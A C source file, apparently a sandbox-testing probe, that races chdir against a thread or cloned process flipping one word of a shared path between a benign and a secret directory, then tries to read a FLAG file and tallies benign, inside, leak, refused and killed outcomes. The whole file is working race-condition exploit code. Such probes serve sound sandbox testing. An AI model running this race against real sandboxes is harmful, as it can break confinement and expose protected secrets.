/* chdir(path) while the path flips: flip_chdir thread|clonevm SECONDS BENIGN SECRET (paths that differ in one word).
 *
 * Each try is a child (a sandbox may kill it): it asks where it is right after chdir returned, and opens FLAG relatively.
 * Prints benign, inside (it was in SECRET), leak (it read the secret), refused, killed.
 */
#include "payload.h"

struct shared {
    char path[512];
    _Atomic uint32_t *word;
    uint32_t one, two;
    atomic_int stop;
    atomic_long benign, inside, leak, refused;
};
static struct shared *s;

static int flip(void *unused UNUSED) {
    while (!atomic_load(&s->stop)) {
        atomic_store(s->word, s->one);
        for (int i = 0; i < 40; i++)
            __asm__ volatile("pause");
        atomic_store(s->word, s->two);
        for (int i = 0; i < 40; i++)
            __asm__ volatile("pause");
    }
    return 0;
}
static void *flip_thread(void *unused UNUSED) { return flip(NULL), NULL; }

static void try_once(const char *path) {
    char where[PATH_MAX];
    for (int i = 0; i < 20; i++) {
        if (syscall(SYS_chdir, path) < 0)
            atomic_fetch_add(&s->refused, 1);
        else if (syscall(SYS_getcwd, where, sizeof where) > 0 && strstr(where, "/ctf"))
            atomic_fetch_add(&s->inside, 1);
        else
            atomic_fetch_add(&s->benign, 1);
        if (reads_secret("FLAG") == 1)
            atomic_fetch_add(&s->leak, 1);
    }
}

int main(int argc, char **argv) {
    static char stack[65536] __attribute__((aligned(16)));
    long killed = 0;
    pthread_t flipper;
    pid_t writer = 0;
    if (argc < 5)
        return 97;
    s = mmap(NULL, sizeof *s, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    size_t at = 0;
    while (argv[3][at] == argv[4][at])
        at++;
    char *path = s->path + (4 - at % 4) % 4;
    strcpy(path, argv[3]);
    s->word = (_Atomic uint32_t *)(path + at);
    memcpy(&s->one, argv[3] + at, 4);
    memcpy(&s->two, argv[4] + at, 4);
    if (!strcmp(argv[1], "thread"))
        pthread_create(&flipper, NULL, flip_thread, NULL);
    else if ((writer = clone(flip, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL)) < 0)
        die("clone");
    for (double end = now() + atof(argv[2]); now() < end;) {
        pid_t pid = fork();
        if (pid == 0) {
            try_once(path);
            _exit(0);
        }
        killed += reap(pid) > 128;
    }
    atomic_store(&s->stop, 1);
    if (writer)
        reap(writer);
    else
        pthread_join(flipper, NULL);
    say("benign", s->benign), say("inside", s->inside), say("leak", s->leak), say("refused", s->refused);
    say("killed", killed);
    return 0;
}
